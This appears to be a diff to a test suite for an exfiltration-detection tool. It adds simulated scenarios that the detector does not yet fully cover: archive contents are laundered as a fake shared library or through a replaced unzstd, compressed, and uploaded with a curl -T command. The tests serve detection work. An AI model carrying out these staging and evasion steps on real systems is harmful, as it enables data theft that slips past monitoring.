@@ -187,3 +187,36 @@ describe('an extracted repository pushed through a proxy on the loopback', () =>
     expect(rules(s)).toEqual(['push-without-reads low git']);
   });
 });
+
+describe('open (not covered): data laundered where reads count for nothing, then compressed and staged', () => {
+  /** curl uploads the 30 MiB staged file it reads. */
+  function uploadStaged(s: Scenario, c: Ctr, parent: Proc): void {
+    const curl = s.exec(c, '/usr/bin/curl', `-T /tmp/d.gz ${UPLOAD}`, { parent, cwd: WORK });
+    s.read(curl, '/tmp/d.gz', 30 * MiB);
+    sendToGitHub(s, curl, 30, '7');
+    s.wait(300).exit(curl);
+  }
+  const MEDIUM = ['push-after-moderate-reads medium curl'];
+
+  it('members extracted as a shared library under a noise prefix, gzip -c of it (its reads count for nothing)', () => {
+    const { s, c, worker } = runnerPod('web');
+    const lib = '/usr/lib/x86_64-linux-gnu/libloot.so.1';
+    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /usr/lib/x86_64-linux-gnu`, { parent: worker, cwd: WORK });
+    readArchive(s, tar);
+    s.exit(tar);
+    const gzip = s.exec(c, '/usr/bin/gzip', `-c ${lib}`, { parent: worker, cwd: WORK });
+    s.read(gzip, lib, 180 * MiB).exit(gzip);
+    uploadStaged(s, c, worker);
+    expect(rules(s)).toEqual(MEDIUM);
+  });
+
+  it('a decompressor replaced (root in the container) by one that writes the archive compressed elsewhere', () => {
+    const { s, c, worker } = runnerPod('web');
+    const tar = s.exec(c, '/usr/bin/tar', `-xf ${DB} -C /tmp/x -I unzstd`, { parent: worker, cwd: WORK });
+    const unzstd = s.exec(c, '/usr/local/bin/unzstd', '-d', { parent: tar });
+    readArchive(s, unzstd);
+    s.exit(unzstd).exit(tar);
+    uploadStaged(s, c, worker);
+    expect(rules(s)).toEqual(MEDIUM);
+  });
+});
